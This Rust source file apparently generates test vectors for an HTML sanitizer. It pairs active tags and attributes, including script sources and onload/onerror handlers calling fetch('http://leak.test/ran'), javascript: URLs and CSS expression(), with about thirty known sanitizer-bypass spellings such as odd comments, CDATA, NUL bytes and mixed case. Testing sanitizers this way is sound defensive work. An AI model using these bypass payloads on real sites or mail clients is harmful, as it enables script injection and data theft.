//! What acts, spelled in all the ways that sanitizers were beaten with: each tag with each trick.
use crate::vectors::Vector;
use mailward::html::Depth;

/// A tag that acts, as its name and one attribute.
const TAGS: &[(&str, &str, &str)] = &[
    ("script", "src", "http://leak.test/ran.js"),
    ("iframe", "src", "http://leak.test/x"),
    ("object", "data", "http://leak.test/x"),
    ("embed", "src", "http://leak.test/x"),
    ("form", "action", "http://leak.test/x"),
    ("base", "href", "http://leak.test/x"),
    ("svg", "onload", "fetch('http://leak.test/ran')"),
    ("math", "href", "javascript:x()"),
    ("img", "onerror", "fetch('http://leak.test/ran')"),
    ("body", "onload", "fetch('http://leak.test/ran')"),
    ("input", "onfocus", "x()"),
    ("a", "href", "javascript:x()"),
    ("p", "style", "width:expression(x())"),
    ("style", "onload", "fetch('http://leak.test/ran')"),
    ("template", "id", "x"),
    ("applet", "code", "x"),
];

/// A tag in one spelling, by its name, its attribute and the value.
type Trick = fn(&str, &str, &str) -> String;

const TRICKS: &[(&str, Trick)] = &[
    ("as it is", |tag, name, value| format!("<{tag} {name}=\"{value}\">x")),
    ("capitals", |tag, name, value| format!("<{} {}=\"{value}\">x", tag.to_uppercase(), name.to_uppercase())),
    ("mixed case", |tag, name, value| format!("<{} {}=\"{value}\">x", mixed(tag), mixed(name))),
    ("a slash", |tag, name, value| format!("<{tag}/{name}=\"{value}\">x")),
    ("slashes", |tag, name, value| format!("<{tag}///{name}=\"{value}\"//>x")),
    ("line ends", |tag, name, value| format!("<{tag}\r\n{name}\n=\n\"{value}\"\n>x")),
    ("form feeds", |tag, name, value| format!("<{tag}\x0c{name}\x0c=\x0c\"{value}\"\x0c>x")),
    ("no quotes", |tag, name, value| format!("<{tag} {name}={value}>x")),
    ("single quotes", |tag, name, value| format!("<{tag} {name}='{}'>x", value.replace('\'', "&#39;"))),
    ("references", |tag, name, value| format!("<{tag} {name}=\"{}\">x", references(value))),
    ("another quote before", |tag, name, value| format!("<p title=\"'\"><{tag} a='\"' {name}=\"{value}\">x")),
    ("a bracket before", |tag, name, value| format!("<{tag} a=\">\" {name}=\"{value}\">x")),
    ("a comment before", |tag, name, value| format!("<!-- > --><{tag} {name}=\"{value}\">x")),
    ("a comment that ends at once", |tag, name, value| format!("<!--><{tag} {name}=\"{value}\">-->x")),
    ("a comment that ends oddly", |tag, name, value| format!("<!-- --!><{tag} {name}=\"{value}\">x")),
    ("in a title's shadow", |tag, name, value| format!("<title>a</title ><{tag} {name}=\"{value}\">x")),
    ("in a style's shadow", |tag, name, value| format!("<style>a</style\n><{tag} {name}=\"{value}\">x")),
    ("in a foreign element", |tag, name, value| format!("<svg><desc><{tag} {name}=\"{value}\">x")),
    ("in a table", |tag, name, value| format!("<table><tr><{tag} {name}=\"{value}\">x")),
    ("in a list of choices", |tag, name, value| format!("<select><option><{tag} {name}=\"{value}\">x")),
    ("behind an end tag with attributes", |tag, name, value| format!("</p a=\"<\"><{tag} {name}=\"{value}\">x")),
    ("twice, the first counts", |tag, name, value| format!("<{tag} {name}=\"{value}\" {name}=y>x")),
    ("behind NUL", |tag, name, value| format!("\0<\0{tag}><{tag}\0 b><{tag} {name}=\"{value}\">x")),
    ("behind a smaller-than", |tag, name, value| format!("<<{tag} {name}=\"{value}\">x")),
    ("in quotes that do not count", |tag, name, value| format!("<p =\"><{tag} {name}={value} a=\">x<{tag} {name}={value}>")),
    ("in a CDATA section", |tag, name, value| format!("<![CDATA[><{tag} {name}=\"{value}\">]]>x")),
    ("in a conditional comment", |tag, name, value| format!("<!--[if gte mso 9]><{tag} {name}=\"{value}\">x<![endif]-->")),
    ("in a revealed conditional", |tag, name, value| format!("<![if !mso]><{tag} {name}=\"{value}\">x<![endif]>")),
    ("in an unquoted value's end", |tag, name, value| format!("<p title=a<b><{tag} {name}=\"{value}\">x")),
    ("split by itself", |tag, name, value| {
        let (front, back) = tag.split_at(tag.len() / 2);
        format!("<{front}<{tag}>{back} {name}=\"{value}\">x<{tag} {name}=\"{value}\">")
    }),
    ("unfinished", |tag, name, value| format!("<{tag} {name}=\"{value}\"")),
];

/// Each tag with each trick.
pub(crate) fn hostile() -> Vec<Vector> {
    let pairs = TAGS.iter().flat_map(|tag| TRICKS.iter().map(move |trick| (tag, trick)));
    pairs
        .map(|((tag, name, value), (trick, spell))| Vector::new(format!("<{tag}> {trick}"), spell(tag, name, value), Depth::Active))
        .collect()
}

fn mixed(name: &str) -> String {
    name.chars().enumerate().map(|(index, letter)| if index % 2 == 0 { letter.to_ascii_uppercase() } else { letter }).collect()
}

/// Every letter another way to write it.
fn references(value: &str) -> String {
    let reference = |(index, letter): (usize, char)| match index % 4 {
        0 => format!("&#{};", letter as u32),
        1 => format!("&#x{:x};", letter as u32),
        2 => format!("&#X000{:X};", letter as u32),
        _ => letter.to_string(),
    };
    value.chars().enumerate().map(reference).collect()
}
